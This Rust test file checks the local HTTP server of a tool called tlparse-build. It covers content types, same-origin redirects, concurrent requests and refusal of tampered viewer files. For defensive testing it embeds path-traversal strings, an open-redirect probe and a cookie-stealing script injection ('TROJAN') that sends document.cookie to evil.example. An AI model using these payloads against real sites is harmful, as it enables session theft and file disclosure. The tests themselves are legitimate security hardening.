//! `serve` and `--open` as a browser sees them: the binary runs as a server, plain HTTP/1.1
//! requests over a TcpStream check what comes back.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use crate::util::{assert_valid, fixture, run};

/// A child process killed when dropped, so a failing test leaves no server behind.
pub(crate) struct KillOnDrop(pub(crate) Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn spawn(args: &[&str]) -> KillOnDrop {
    let child = Command::new(env!("CARGO_BIN_EXE_tlparse-build"))
        .args(args)
        .env("TLPARSE_NO_BROWSER", "1")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run tlparse-build");
    KillOnDrop(child)
}

/// Runs a command that must exit on its own (e.g. a refused `serve`): a server that starts
/// instead fails the test rather than hanging it.
pub(crate) fn run_to_exit(args: &[&str]) -> Output {
    let mut process = spawn(args);
    let started = Instant::now();
    while process.0.try_wait().unwrap().is_none() {
        assert!(started.elapsed() < Duration::from_secs(60), "{args:?} did not exit");
        std::thread::sleep(Duration::from_millis(20));
    }
    let (mut stdout, mut stderr) = (Vec::new(), Vec::new());
    process.0.stdout.take().unwrap().read_to_end(&mut stdout).unwrap();
    process.0.stderr.take().unwrap().read_to_end(&mut stderr).unwrap();
    Output { status: process.0.wait().unwrap(), stdout, stderr }
}

/// A running `tlparse-build` serving a bundle (killed when dropped).
pub(crate) struct ServerProcess {
    pub(crate) process: KillOnDrop,
    /// Everything it printed up to and including the `Serving ... at URL` line.
    pub(crate) stdout: String,
    /// `127.0.0.1:PORT`
    pub(crate) addr: String,
}

impl ServerProcess {
    /// Runs the binary (never opening a browser) and waits for it to print the URL it serves.
    pub(crate) fn start(args: &[&str]) -> ServerProcess {
        let mut process = spawn(args);
        // Lines arrive on a channel so that a server that never prints fails the test instead of hanging it.
        let (lines_tx, lines) = mpsc::channel();
        let stdout = BufReader::new(process.0.stdout.take().unwrap());
        let mut stderr = process.0.stderr.take().unwrap();
        std::thread::spawn(move || {
            for line in stdout.lines().map_while(Result::ok) {
                if lines_tx.send(line).is_err() {
                    break;
                }
            }
        });
        let mut server = ServerProcess { process, stdout: String::new(), addr: String::new() };
        let deadline = Instant::now() + Duration::from_secs(120);
        loop {
            let wait = deadline.saturating_duration_since(Instant::now());
            let Ok(line) = lines.recv_timeout(wait) else {
                let _ = server.process.0.kill();
                let mut errors = String::new();
                let _ = stderr.read_to_string(&mut errors);
                panic!("no `Serving` line from {args:?}; it printed:\n{}{errors}", server.stdout);
            };
            server.stdout.push_str(&line);
            server.stdout.push('\n');
            if let Some(rest) = line.strip_prefix("Serving ") {
                let (_, url) = rest.rsplit_once(" at ").unwrap();
                let url = url.strip_suffix(" (Ctrl-C to stop)").unwrap();
                server.addr = url.strip_prefix("http://").unwrap().strip_suffix('/').unwrap().to_string();
                // Keep draining its output, so that it never blocks on a full pipe.
                std::thread::spawn(move || while lines.recv().is_ok() {});
                std::thread::spawn(move || std::io::copy(&mut stderr, &mut std::io::sink()));
                return server;
            }
        }
    }

    pub(crate) fn get(&self, target: &str) -> HttpResponse {
        request(&self.addr, "GET", target)
    }
}

pub(crate) struct HttpResponse {
    pub(crate) status: u16,
    pub(crate) headers: Vec<(String, String)>,
    pub(crate) body: Vec<u8>,
}

impl HttpResponse {
    pub(crate) fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(n, _)| n.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
    }
}

/// One HTTP/1.1 request on its own connection (`Connection: close`, so the body ends at EOF).
/// The target goes out exactly as given: `..` and `%2e` are not normalised away as a client library might.
pub(crate) fn request(addr: &str, method: &str, target: &str) -> HttpResponse {
    exchange(addr, &format!("{method} {target} HTTP/1.1\r\nHost: {addr}"))
}

/// Sends `head` (a request line and headers, no blank line) on a fresh connection with
/// `Connection: close`, and parses the whole answer.
pub(crate) fn exchange(addr: &str, head: &str) -> HttpResponse {
    let mut stream = TcpStream::connect(addr).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    write!(stream, "{head}\r\nConnection: close\r\n\r\n").unwrap();
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).unwrap();
    parse_response(&raw)
}

pub(crate) fn parse_response(raw: &[u8]) -> HttpResponse {
    let split = raw.windows(4).position(|w| w == b"\r\n\r\n").expect("end of headers");
    let head = String::from_utf8(raw[..split].to_vec()).unwrap();
    let mut lines = head.split("\r\n");
    let status = lines.next().unwrap().split(' ').nth(1).unwrap().parse().unwrap();
    let headers = lines
        .map(|l| {
            let (name, value) = l.split_once(':').unwrap();
            (name.to_string(), value.trim().to_string())
        })
        .collect();
    HttpResponse { status, headers, body: raw[split + 4..].to_vec() }
}

/// A bundle of simple.log, with the viewer it ships, in a fresh directory.
pub(crate) fn bundle_with_viewer() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("bundle");
    let built = run(&[fixture("tlparse-tests/simple.log").as_str(), "-o", out.to_str().unwrap()]);
    assert!(built.status.success(), "{}", String::from_utf8_lossy(&built.stderr));
    assert_valid(&out);
    (dir, out)
}

/// The bundle files listed in its manifest whose path ends with `suffix`.
pub(crate) fn manifest_files_ending_with(bundle: &Path, suffix: &str) -> Vec<String> {
    let manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(bundle.join("manifest.json")).unwrap()).unwrap();
    manifest["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap().to_string())
        .filter(|p| p.ends_with(suffix))
        .collect()
}

#[test]
fn serves_a_bundle_with_the_content_types_a_viewer_needs() {
    let (dir, bundle) = bundle_with_viewer();
    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0", "--no-open"]);
    assert!(server.stdout.contains("(Ctrl-C to stop)"), "{}", server.stdout);

    let manifest = server.get("/manifest.json");
    assert_eq!(manifest.status, 200);
    assert_eq!(manifest.body, std::fs::read(bundle.join("manifest.json")).unwrap());
    assert_eq!(manifest.header("Content-Type"), Some("application/json"));
    assert_eq!(manifest.header("Cache-Control"), Some("no-cache"));
    assert_eq!(manifest.header("Content-Encoding"), None);

    // Compressed files go out as they are: the viewer decompresses them, not the browser.
    let zst = &manifest_files_ending_with(&bundle, ".zst")[0];
    let table = server.get(&format!("/{zst}"));
    assert_eq!(table.status, 200, "{zst}");
    assert_eq!(table.header("Content-Type"), Some("application/zstd"));
    assert_eq!(table.header("Content-Encoding"), None);
    assert_eq!(table.body, std::fs::read(bundle.join(zst)).unwrap());
    for gz in manifest_files_ending_with(&bundle, ".gz") {
        let trace = server.get(&format!("/{gz}"));
        assert_eq!((trace.status, trace.header("Content-Type")), (200, Some("application/gzip")), "{gz}");
        assert_eq!(trace.header("Content-Encoding"), None);
    }
    let diagnostics = server.get("/diagnostics.jsonl");
    assert_eq!((diagnostics.status, diagnostics.header("Content-Type")), (200, Some("application/jsonl")));

    // The viewer: browsers load ES modules only with a JavaScript type.
    let module = server.get("/viewer/fzstd.js");
    assert_eq!((module.status, module.header("Content-Type")), (200, Some("text/javascript; charset=utf-8")));
    assert_eq!(module.body, std::fs::read(bundle.join("viewer/fzstd.js")).unwrap());
    let index = server.get("/");
    assert_eq!((index.status, index.header("Content-Type")), (200, Some("text/html; charset=utf-8")));
    assert_eq!(index.body, std::fs::read(bundle.join("index.html")).unwrap());
    // Redirects stay on this origin: `//viewer/` would be the host `viewer` to a browser.
    for target in ["/viewer", "//viewer", "/.//viewer", "/%2Fviewer"] {
        let redirect = server.get(target);
        assert_eq!((redirect.status, redirect.header("Location")), (301, Some("/viewer/")), "{target}");
    }
    let elsewhere = server.get("//evil.example/x");
    assert_eq!((elsewhere.status, elsewhere.header("Location")), (404, None));

    let head = request(&server.addr, "HEAD", "/manifest.json");
    assert_eq!(head.status, 200);
    assert!(head.body.is_empty());
    assert_eq!(head.header("Content-Length"), Some(manifest.body.len().to_string().as_str()));
    assert_eq!(head.header("Content-Type"), Some("application/json"));

    let missing = server.get("/no/such/file.json");
    assert_eq!(missing.status, 404);
    assert!(missing.body.len() < 200 && String::from_utf8_lossy(&missing.body).contains("not found"));
    assert_eq!(request(&server.addr, "POST", "/manifest.json").status, 405);

    // Nothing outside the bundle leaks, however the way out is spelled.
    std::fs::write(dir.path().join("secret.txt"), "SECRET CONTENTS").unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(dir.path().join("secret.txt"), bundle.join("link.txt")).unwrap();
    for escape in [
        "/../secret.txt",
        "/%2e%2e/secret.txt",
        "/%2E%2E%2Fsecret.txt",
        "/viewer/../../secret.txt",
        "/viewer/%2e%2e/%2e%2e/secret.txt",
        "/link.txt",
        &format!("/{}", dir.path().join("secret.txt").display()),
        "/../Cargo.toml",
        "/%2e%2e/Cargo.toml",
    ] {
        let refused = server.get(escape);
        assert!(matches!(refused.status, 403 | 404), "{escape}: {}", refused.status);
        let body = String::from_utf8_lossy(&refused.body);
        assert!(!body.contains("SECRET CONTENTS") && !body.contains("[package]"), "{escape}: {body}");
    }
}

#[test]
fn answers_many_requests_at_once() {
    let (_dir, bundle) = bundle_with_viewer();
    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0"]);
    let files: Vec<String> = manifest_files_ending_with(&bundle, "");
    // A browser opening the viewer: several connections, each asking for a few files.
    std::thread::scope(|scope| {
        for _ in 0..12 {
            scope.spawn(|| {
                for file in files.iter().take(6) {
                    let response = server.get(&format!("/{file}"));
                    assert_eq!(response.status, 200, "{file}");
                    assert_eq!(response.body, std::fs::read(bundle.join(file)).unwrap(), "{file}");
                }
            });
        }
    });
}

#[test]
fn refuses_a_directory_that_is_not_a_bundle_and_a_port_that_is_taken() {
    let dir = tempfile::tempdir().unwrap();
    let refused = run_to_exit(&["serve", dir.path().to_str().unwrap(), "--no-open"]);
    assert_eq!(refused.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains(&format!("{} is not a bundle (no manifest.json)", dir.path().display())), "{stderr}");

    // An explicit --port is kept to: when taken, the command fails instead of moving on.
    let (_bundle_dir, bundle) = bundle_with_viewer();
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = taken.local_addr().unwrap().port().to_string();
    let busy = run_to_exit(&["serve", bundle.to_str().unwrap(), "--port", &port, "--no-open"]);
    assert_eq!(busy.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&busy.stderr).contains(&format!("could not listen on 127.0.0.1:{port}")));
}

#[test]
fn without_a_port_moves_past_a_taken_default() {
    // Hold 8000 if it is free; if something else holds it, that is the case under test too.
    let _held = std::net::TcpListener::bind("127.0.0.1:8000");
    let (_dir, bundle) = bundle_with_viewer();
    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap()]);
    assert_ne!(server.addr, "127.0.0.1:8000");
    assert_eq!(server.get("/manifest.json").status, 200);
}

#[test]
fn a_bundle_without_a_viewer_is_served_with_a_note() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("bundle");
    assert!(run(&[fixture("tlparse-tests/simple.log").as_str(), "-o", out.to_str().unwrap()]).status.success());
    let _ = std::fs::remove_file(out.join("index.html"));
    let server = ServerProcess::start(&["serve", out.to_str().unwrap(), "--port", "0"]);
    assert!(server.stdout.contains("ships no viewer"), "{}", server.stdout);
    assert_eq!(server.get("/manifest.json").status, 200);
    assert_eq!(server.get("/").status, 404);
}

#[test]
fn open_after_a_build_serves_the_new_bundle() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("bundle");
    let trace = fixture("tlparse-tests/simple.log");
    let server = ServerProcess::start(&[trace.as_str(), "-o", out.to_str().unwrap(), "--open", "--port", "0"]);
    assert!(server.stdout.starts_with(&format!("wrote {}", out.display())), "{}", server.stdout);
    let manifest = server.get("/manifest.json");
    assert_eq!(manifest.status, 200);
    assert_eq!(manifest.body, std::fs::read(out.join("manifest.json")).unwrap());

    // --port means nothing without --open.
    let misuse = run_to_exit(&[trace.as_str(), "-o", dir.path().join("other").to_str().unwrap(), "--port", "0"]);
    assert_eq!(misuse.status.code(), Some(2));
}

const TROJAN: &str = "<script>fetch('https://evil.example/?' + document.cookie)</script>\n";

/// Asserts a short plain refusal that leaks none of the refused file.
fn assert_refused(response: &HttpResponse, target: &str) {
    let body = String::from_utf8_lossy(&response.body);
    assert_eq!(response.status, 403, "{target}: {body}");
    assert_eq!(response.header("Content-Type"), Some("text/plain; charset=utf-8"), "{target}");
    assert!(body.starts_with("refused: ") && body.len() < 200 && !body.contains("<script>"), "{target}: {body}");
}

#[test]
fn refuses_a_trojaned_or_added_viewer_file_and_serves_the_rest() {
    let (_dir, bundle) = bundle_with_viewer();
    std::fs::write(bundle.join("index.html"), TROJAN).unwrap();
    std::fs::write(bundle.join("viewer/evil.html"), TROJAN).unwrap();
    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0"]);
    assert!(
        server.stdout.contains("viewer will not be served: index.html changed since the build"),
        "{}",
        server.stdout
    );

    for target in ["/", "/index.html", "/viewer/evil.html", "/viewer/%65vil.html"] {
        assert_refused(&server.get(target), target);
    }
    let body = String::from_utf8_lossy(&server.get("/viewer/evil.html").body).to_string();
    assert!(body.contains("not a viewer file manifest.json lists"), "{body}");
    // The untouched viewer files and the bundle's own files still go out.
    assert_eq!(server.get("/viewer/fzstd.js").status, 200);
    let manifest = server.get("/manifest.json");
    assert_eq!(manifest.status, 200);
    assert_eq!(manifest.body, std::fs::read(bundle.join("manifest.json")).unwrap());
}

#[test]
fn a_viewer_file_replaced_while_serving_is_refused_from_then_on() {
    let (_dir, bundle) = bundle_with_viewer();
    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0"]);
    assert!(!server.stdout.contains("will not be served"), "{}", server.stdout);
    assert_eq!(server.get("/").status, 200);
    std::fs::write(bundle.join("index.html"), TROJAN).unwrap();
    assert_refused(&server.get("/"), "/");
    assert_eq!(server.get("/manifest.json").status, 200);
}

#[test]
fn a_page_outside_the_viewer_goes_out_as_plain_text() {
    let (_dir, bundle) = bundle_with_viewer();
    std::fs::write(bundle.join("evil.html"), TROJAN).unwrap();
    std::fs::write(bundle.join("evil.svg"), "<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>").unwrap();
    let server = ServerProcess::start(&["serve", bundle.to_str().unwrap(), "--port", "0"]);
    for target in ["/evil.html", "/evil.svg"] {
        let page = server.get(target);
        assert_eq!((page.status, page.header("Content-Type")), (200, Some("text/plain; charset=utf-8")), "{target}");
        assert_eq!(page.header("X-Content-Type-Options"), Some("nosniff"));
    }
}
